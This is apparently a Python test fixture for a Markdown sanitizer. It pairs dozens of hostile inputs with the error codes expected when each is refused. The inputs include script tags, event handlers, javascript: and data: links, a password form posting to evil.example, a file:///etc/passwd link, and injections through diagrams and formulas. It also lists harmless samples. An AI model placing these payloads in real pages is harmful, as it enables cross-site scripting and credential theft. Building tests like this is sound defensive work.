"""Hostile Markdown, one payload each: what a page might hold, the code that refuses it, and the line it is told at."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    code: str
    line: int = 1


PAYLOADS = (
    Payload("script", "<script>alert(1)</script>", "E801"),
    Payload("script in capitals", "文字 <ScRiPt>alert(1)</sCrIpT>", "E801"),
    Payload("script in raw HTML, looking like code", "<div>\n\n`<script>alert(1)</script>`\n\n</div>", "E801", 3),
    Payload("script behind an escaped backtick", "\\`<script>alert(1)</script>`", "E801"),
    Payload("script between spans of two lines", "a `b\n` <script>alert(1)</script> ` c", "E801", 2),
    Payload("script behind a run of backticks", "``a`<script>alert(1)</script>`", "E801"),
    Payload("script behind a fence that closes longer", "```text\na\n````\n```\n<script>x</script>\n```", "E812"),
    Payload("script behind a fence with an odd head", "```text <b>\na\n```\n\n```\n<script>x</script>\n```", "E812"),
    Payload("script behind a quoted end", "```\na\n> ```\n```\n<script>x</script>\n```", "E812"),
    Payload("script in a fence that never closes", "```\n<script>x</script>", "E812"),
    Payload("script in a fence with a tab", "- a\n\n\t```\n\t<script>x</script>\n\t```", "E812", 3),
    Payload("script in a comment that ends early", "<!--> <script>x</script> -->", "E813"),
    Payload("iframe", '<iframe src="https://example.org/"></iframe>', "E801"),
    Payload("object", '<object data="x.swf"></object>', "E801"),
    Payload("embed", '<embed src="x.swf">', "E801"),
    Payload("base", '<base href="https://evil.example/">', "E801"),
    Payload("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "E801"),
    Payload("form", '<form action="https://evil.example/"><input name="password"></form>', "E801"),
    Payload("style", "<style>body{display:none}</style>", "E801"),
    Payload("link", '<link rel="stylesheet" href="https://evil.example/x.css">', "E801"),
    Payload("drawing", "<svg onload=alert(1)></svg>", "E801"),
    Payload("formula", '<math><mi href="javascript:alert(1)">x</mi></math>', "E801"),
    Payload("instruction", "<?php echo 1 ?>", "E813"),
    Payload("character data", "<![CDATA[<script>x</script>]]>", "E813"),
    Payload("event", '<img src="x.png" alt="" onerror="alert(1)">', "E802"),
    Payload("event over two lines", '<img src="x.png"\n  onerror="alert(1)">', "E802"),
    Payload("event without blanks", "<img/src=x.png/onerror=alert(1)>", "E813"),
    Payload("event behind a bracket in quotes", '<b title="a>b" onclick=alert(1)>x</b>', "E813"),
    Payload("event in an attribute list", "[文字](index.md){ onclick=alert(1) }", "E802"),
    Payload("event in a list of attributes with braces", '[文字](index.md){ title="}" onclick=alert(1) }', "E802"),
    Payload("event below a paragraph", "文字\n{: onmouseover='alert(1)' }", "E802", 2),
    Payload("event behind a heading", "# 标题 {#a ONCLICK=alert(1)}", "E802"),
    Payload("style in an attribute list", "[文字](index.md){ style=position:fixed }", "E802"),
    Payload("style attribute", '<p style="position:fixed;inset:0">x</p>', "E802"),
    Payload("scheme", "[文字](javascript:alert(1))", "E803"),
    Payload("scheme in capitals", "[文字](JaVaScRiPt:alert(1))", "E803"),
    Payload("scheme in brackets, with blanks", "[文字](<java script:alert(1)>)", "E803"),
    Payload("scheme in references", "[文字](&#106;avascript&colon;alert(1))", "E803"),
    Payload("scheme of old", "[文字](vbscript:msgbox(1))", "E803"),
    Payload("data address", "[文字](data:text/html;base64,PHNjcmlwdD4=)", "E803"),
    Payload("file address", "[文字](file:///etc/passwd)", "E803"),
    Payload("address without a scheme", "[文字](//evil.example/)", "E803"),
    Payload("address with backslashes", "[文字](\\\\evil.example)", "E803"),
    Payload("address from the host's root", "[文字](/en/survey/)", "E815"),
    Payload("address from the host's root in raw HTML", '<a href="&#47;en/">x</a>', "E815"),
    Payload("address from the host's root in a definition", "[文字][x]\n\n[x]: /en/", "E815", 3),
    Payload("plain http", "[文字](http://example.org/)", "E803"),
    Payload("scheme of a picture", "![图](javascript:alert(1))", "E803"),
    Payload("scheme in a definition", "[文字][x]\n\n[x]: javascript:alert(1)", "E803", 3),
    Payload("scheme in a definition in a list", "- [文字][x]\n\n    [x]: javascript:alert(1)", "E803", 3),
    Payload("scheme between brackets", "<javascript:alert(1)>", "E803"),
    Payload("scheme in an attribute list", "[文字](index.md){ href=javascript:alert(1) }", "E803"),
    Payload("scheme in raw HTML", '<a href="java&Tab;script:alert(1)">x</a>', "E803"),
    Payload("id of the theme", "## 搜索 {#__search}", "E804"),
    Payload("id of the theme in raw HTML", '<p id="&#95;_search">x</p>', "E804"),
    Payload("id of the theme, spelt out", "## 搜索 { id='__drawer' }", "E804"),
    Payload("directive of a diagram", '```mermaid\n%%{init: {"themeCSS": "x"}}%%\nflowchart LR\n```', "E805", 2),
    Payload("click in a diagram", '```mermaid\nflowchart LR\n  a --> b\n  click a "javascript:f()"\n```', "E805", 4),
    Payload("click behind a semicolon", "```mermaid\nflowchart LR; a-->b; click a alert\n```", "E805", 2),
    Payload("front matter of a diagram", "```mermaid\n---\nconfig:\n  themeCSS: x\n---\nflowchart LR\n```", "E805", 2),
    Payload("HTML in a diagram", '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"]\n```', "E805", 3),
    Payload("misspelt diagram", "文\n\n```mermaid\nflowchrt LR\n  a --> b\n```", "E816", 4),
    Payload("diagram without words", "> ```mermaid\n> %% 注\n> flowchart LR\n>   accTitle: 图\n> ```", "E817", 3),
    Payload("link in a formula", "$\\href{javascript:alert(1)}{x}$", "E806"),
    Payload("picture in a formula", "$$\n\\includegraphics{https://evil.example/x.png}\n$$", "E806", 2),
    Payload("macro in a formula", "$\\def\\a{\\a\\a}\\a$", "E806"),
    Payload("HTML in a formula", "$\\htmlStyle{position:fixed}{x}$", "E806"),
    Payload("tag that never closes", "a <b", "E807"),
)  # fmt: skip

# What the theme teaches and authors write: none of it is refused.
HARMLESS = (
    '<div class="grid cards" markdown>\n\n-   __标题__\n\n    ---\n\n    文字 [链接](index.md)\n\n</div>',
    '<figure markdown="span">\n  ![图](a.png){ width="300" loading=lazy }\n  <figcaption>说明</figcaption>\n</figure>',
    "按 <kbd>Ctrl</kbd>，H<sub>2</sub>O，10<sup>3</sup>，<abbr title=\"人工智能\">AI</abbr>，一行<br>两行<br/>三行",
    "<details markdown>\n<summary>更多</summary>\n文字\n</details>",
    '??? note "题 <b>粗</b>"\n    文字\n\n=== "标签"\n    文字',
    "<!-- 更多 -->\n\n文字",
    "`<script>alert(1)</script>` 与 ``a ` <b onclick=x>``",
    "```html title=\"a.html\" linenums=\"1\" hl_lines=\"1-2\"\n<script>alert(1)</script>\n```",
    "``` { .yaml .annotate title=\"a\" }\na: <b>\n```",
    "- 列表\n\n    ```python\n    if a < b: print('<script>')\n    ```\n\n> ```\n> <iframe>\n> ```",
    "````markdown\n```compare\nwhere: x\n```\n````",
    "~~~text\n```\n<script>\n~~~",
    "a < b，a<=b，1<2，<https://example.org/?a=1#b>，<mailto:a@example.org>",
    "$a \\lt b$，$x_{on}=1$，\\$5，{花括号}，$\\frac{1}{2}$",
    "[文字](https://example.org/a_(b)){ .md-button rel=noopener } [文字](../a.md#b \"题\") [文字][r]\n\n[r]: https://example.org/",
    "脚注[^1]\n\n[^1]: 注：文字\n\n*[LLM]: 大语言模型\n\n术语\n:   解释",
    "| a | b |\n|---|:-:|\n| `x|y` | 1 |",
    "```mermaid\nflowchart LR\n  accTitle: 图\n  accDescr: 从 a 到 b。\n  a[\"a<br/>b\"] --> b\n```",
)  # fmt: skip
